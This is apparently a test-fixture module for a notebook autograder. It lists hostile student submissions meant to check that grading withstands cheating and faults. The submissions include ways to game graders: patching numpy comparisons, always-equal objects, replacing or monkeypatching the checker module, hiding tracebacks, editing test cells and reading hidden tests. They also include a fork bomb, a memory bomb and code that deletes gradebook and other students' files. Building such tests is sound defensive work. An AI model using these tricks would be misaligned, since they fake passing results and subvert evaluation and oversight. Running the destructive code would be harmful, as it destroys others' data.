"""The hostile submissions: one student per attack or fault of issue 6.

Each :class:`Submission` starts from the released notebook with the honest answers
filled in, then replaces answer cells (``answers``), adds cells of its own
(``extra_cells``), edits the notebook (``edit``), adds files, or replaces the whole
notebook file. ``touched`` are the functions the attack targets: they must earn 0.
Untouched functions must keep their points, unless ``collateral`` says the fault may
take them down too (a fork bomb stops the whole notebook; it must never ADD points).
"""

import inspect
import textwrap
from dataclasses import dataclass, field

WRONG = {
    "softmax": "def softmax(x, axis=-1):\n    return np.zeros_like(x)",
    "adam_step": "def adam_step(w, g, m, v, t, learning_rate=0.001, beta_1=0.9, beta_2=0.999, epsilon=1e-7):\n"
                 "    return w - learning_rate * g, m, v",
    "mean_squared_error": "def mean_squared_error(y_true, y_pred):\n"
                          "    return np.zeros(np.shape(y_true)[:-1], dtype=np.asarray(y_pred).dtype)",
}


@dataclass
class Submission:
    student: str
    kind: str  # "attack" | "fault" | "control"
    what: str
    touched: frozenset = frozenset()
    answers: dict = field(default_factory=dict)
    extra_cells: tuple = ()
    edit: object = None  # callable(nb) -> None, applied to the notebook
    files: dict = field(default_factory=dict)  # relative path -> text
    notebook_text: str = None  # replaces the notebook file (invalid JSON)
    missing: bool = False
    collateral: bool = False


def _copied_dlkit_code():
    """Answers pasted from dlkit's own source (what a student copying it would submit)."""
    from dlkit import activations
    from dlkit.optimizers import adam
    softmax = inspect.getsource(activations.softmax).replace("x = _x(x)", "x = np.asarray(x)")
    helpers = inspect.getsource(adam._moment_updates) + "\n\n" + inspect.getsource(adam._adam_update)
    step = textwrap.dedent('''
        def adam_step(w, g, m, v, t, learning_rate=0.001, beta_1=0.9, beta_2=0.999, epsilon=1e-7):
            w, m, v = np.array(w), np.array(m), np.array(v)
            scratch = (np.empty_like(w), np.empty_like(w))
            _adam_update(w, np.asarray(g), m, v, t, learning_rate, beta_1, beta_2, epsilon, scratch)
            return w, m, v
        ''')
    return {"softmax": softmax, "adam_step": helpers + "\n" + step}


def submissions(paths):
    """All submissions; ``paths`` has course_root, db, source_nb, other_nb, port (str/int)."""
    leak_paths = [paths["db"], paths["source_nb"], paths["other_nb"]]
    return [
        Submission("a_honest", "control", "all three answers correct (first in the batch)"),
        Submission("blank", "control", "the released notebook, unanswered",
                   touched=frozenset({"softmax", "adam_step", "mean_squared_error"}),
                   answers={fn: "# YOUR CODE HERE\nraise NotImplementedError()" for fn in WRONG}),
        # ------------------------------------------------------------- attacks
        Submission("patch_numpy", "attack", "patches numpy.testing, np.allclose/isclose/array_equal",
                   frozenset({"softmax"}), answers={"softmax": textwrap.dedent('''
                       import numpy.testing
                       numpy.testing.assert_allclose = lambda *a, **k: None
                       numpy.testing.assert_array_equal = lambda *a, **k: None
                       np.allclose = lambda *a, **k: True
                       np.array_equal = lambda *a, **k: True
                       np.isclose = lambda a, b, *args, **k: np.ones(np.shape(b), dtype=bool)
                       ''') + WRONG["softmax"]}),
        Submission("always_equal", "attack", "returns an object whose == is always true and imitates an array",
                   frozenset({"mean_squared_error"}), answers={"mean_squared_error": textwrap.dedent('''
                       class Always:
                           shape, ndim, dtype = (4,), 1, np.dtype("float32")
                           def __eq__(self, other): return True
                           def __ne__(self, other): return False
                           def __array__(self, dtype=None, copy=None): return np.zeros(4)
                           def __getattr__(self, name): return lambda *a, **k: True
                       class Liar(np.ndarray):
                           def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
                       def mean_squared_error(y_true, y_pred):
                           if np.ndim(y_true) == 1:
                               return Always()
                           return np.zeros(np.shape(y_true)[:-1], dtype=y_true.dtype).view(Liar)
                       ''')}),
        Submission("import_reference", "attack", "imports dlkit's softmax",
                   frozenset({"softmax"}), answers={"softmax": "from dlkit.activations import softmax"}),
        Submission("wrap_reference", "attack", "wraps dlkit's adam_step",
                   frozenset({"adam_step"}), answers={"adam_step": textwrap.dedent('''
                       import dlkit.optimizers as _opt
                       def adam_step(*args, **kwargs):
                           return _opt.adam_step(*args, **kwargs)
                       ''')}),
        Submission("copy_reference", "attack", "pastes dlkit's source (softmax with docstring, Adam's kernels)",
                   frozenset({"softmax", "adam_step"}), answers=_copied_dlkit_code()),
        Submission("replace_grading", "attack", "replaces dlkit.grading in sys.modules",
                   frozenset({"mean_squared_error"}), collateral=True,
                   extra_cells=(textwrap.dedent('''
                       import sys, types
                       fake = types.ModuleType("dlkit.grading")
                       fake.check = lambda *a, **k: None
                       sys.modules["dlkit.grading"] = fake
                       '''),), answers={"mean_squared_error": WRONG["mean_squared_error"]}),
        Submission("monkeypatch_checker", "attack", "monkeypatches dlkit.grading's evaluate",
                   frozenset({"softmax"}), answers={"softmax": textwrap.dedent('''
                       import dlkit.grading.check as _c
                       import dlkit.grading.verdict as _v
                       _c.evaluate = lambda *a, **k: _v.Verdict(True)
                       ''') + WRONG["softmax"]}),
        Submission("hide_failures", "attack", "disables showtraceback and sys.excepthook",
                   frozenset({"mean_squared_error"}), answers={"mean_squared_error": textwrap.dedent('''
                       import sys
                       get_ipython().showtraceback = lambda *a, **k: None
                       get_ipython().showsyntaxerror = lambda *a, **k: None
                       sys.excepthook = lambda *a: None
                       ''') + WRONG["mean_squared_error"]}),
        Submission("swallow_assertion", "attack", "swallows AssertionError with a custom exception handler",
                   frozenset({"adam_step"}), answers={"adam_step": textwrap.dedent('''
                       def _swallow(shell, etype, evalue, tb, tb_offset=None):
                           return None
                       get_ipython().set_custom_exc((AssertionError,), _swallow)
                       ''') + WRONG["adam_step"]}),
        Submission("edit_tests", "attack", "empties two test cells, deletes one, retypes one",
                   frozenset({"softmax", "mean_squared_error"}), edit=_edit_tests,
                   answers={"softmax": WRONG["softmax"], "mean_squared_error": WRONG["mean_squared_error"]}),
        Submission("read_hidden", "attack", "precomputes hidden cases with dlkit, reads tests from disk",
                   frozenset({"softmax"}), answers={"softmax": textwrap.dedent(f'''
                       import dlkit.grading, dlkit.activations
                       _answers = {{}}
                       for _hidden in (False, True):
                           for _case in dlkit.grading.get("03-activations:softmax").cases(hidden=_hidden):
                               _x, _axis = _case.args[0], _case.kwargs.get("axis", -1)
                               _answers[(_x.tobytes(), _x.shape, str(_x.dtype), _axis)] = dlkit.activations.softmax(_x, _axis)
                       for _path in {leak_paths!r}:
                           try:
                               open(_path, "rb").read()
                               print("LEAKED", _path)
                           except OSError:
                               print("DENIED", _path)
                       def softmax(x, axis=-1):
                           return _answers.get((x.tobytes(), x.shape, str(x.dtype), axis), np.zeros_like(x))
                       ''')}),
        Submission("reseed", "attack", "patches default_rng and re-seeds NumPy to steer random checks",
                   frozenset({"softmax"}), answers={"softmax": textwrap.dedent('''
                       class _Zeros:
                           def __getattr__(self, name):
                               return lambda *a, size=None, **k: np.zeros(size if size is not None else (a[-1] if a else ()))
                       np.random.default_rng = lambda *a, **k: _Zeros()
                       np.random.seed(0)
                       def softmax(x, axis=-1):
                           return np.full_like(x, 1.0 / np.shape(x)[axis])
                       ''')}),
        # ------------------------------------------------------------- faults
        Submission("infinite_loop", "fault", "an endless loop before the softmax definition",
                   frozenset({"softmax"}), answers={"softmax": "while True:\n    pass\n"}),
        Submission("memory_bomb", "fault", "allocates until the memory limit, then no adam_step",
                   frozenset({"adam_step"}), answers={"adam_step": textwrap.dedent('''
                       def _bomb():
                           hog = []
                           while True:
                               hog.append(bytearray(64 << 20))
                       _bomb()
                       ''')}),
        Submission("fork_bomb", "fault", "forks until the process limit",
                   frozenset({"mean_squared_error"}), collateral=True,
                   answers={"mean_squared_error": textwrap.dedent('''
                       import os
                       def _bomb():
                           while True:
                               try:
                                   os.fork()
                               except OSError:
                                   pass
                       _bomb()
                       ''')}),
        Submission("kernel_crash", "fault", "kills its kernel after the softmax tests (os._exit)",
                   frozenset({"adam_step", "mean_squared_error"}), collateral=True,
                   edit=lambda nb: _insert_after(nb, "test_softmax_hidden", "import os\nos._exit(1)")),
        Submission("write_outside", "fault", "writes to the gradebook, another student's and the course's files",
                   extra_cells=(_write_attack(paths),)),
        Submission("network", "fault", "connects to a server on the host's loopback",
                   extra_cells=(textwrap.dedent(f'''
                       import socket
                       for _ in range(3):
                           try:
                               socket.create_connection(("127.0.0.1", {paths["port"]}), timeout=2).sendall(b"leak")
                               print("CONNECTED")
                           except OSError as exc:
                               print("NO NETWORK", exc)
                       '''),)),
        Submission("huge_output", "fault", "prints about 200 MB",
                   extra_cells=('for _i in range(200_000):\n    print("x" * 1000)',)),
        Submission("invalid_json", "fault", "the notebook file is not JSON",
                   frozenset({"softmax", "adam_step", "mean_squared_error"}), notebook_text="{ this is not json"),
        Submission("missing_notebook", "fault", "submits a folder without the notebook",
                   frozenset({"softmax", "adam_step", "mean_squared_error"}), missing=True,
                   files={"notes.txt": "no notebook here"}),
        Submission("extra_files", "fault", "submits numpy.py and a fake dlkit package next to wrong answers",
                   frozenset({"softmax", "adam_step", "mean_squared_error"}),
                   answers=dict(WRONG), files={
                       "dlkit/__init__.py": "",
                       "dlkit/grading/__init__.py": "def check(*args, **kwargs):\n    return None\n",
                       "numpy.py": "raise ImportError('shadowed numpy')\n"}),
        Submission("z_honest", "control", "all three answers correct (last in the batch)"),
    ]


def _edit_tests(nb):
    for cell in list(nb.cells):
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in ("test_softmax", "test_softmax_hidden"):
            cell.source = "pass"
        elif gid == "test_mean_squared_error_hidden":
            nb.cells.remove(cell)
        elif gid == "test_mean_squared_error":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


def _insert_after(nb, grade_id, source):
    import nbformat
    index = next(i for i, c in enumerate(nb.cells)
                 if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source))


def _write_attack(paths):
    targets = [paths["db"], paths["other_nb"], paths["source_nb"]]
    return textwrap.dedent(f'''
        import os
        for _path in {targets!r}:
            for _how in ("append", "delete"):
                try:
                    if _how == "append":
                        open(_path, "a").write("pwned")
                    else:
                        os.remove(_path)
                    print("WROTE", _how, _path)
                except OSError as exc:
                    print("DENIED", _how, _path)
        for _dir in ({paths["course_root"]!r}, os.path.dirname({paths["other_nb"]!r})):
            try:
                open(os.path.join(_dir, "PWNED"), "w").write("x")
                print("WROTE", _dir)
            except OSError:
                print("DENIED", _dir)
        ''')
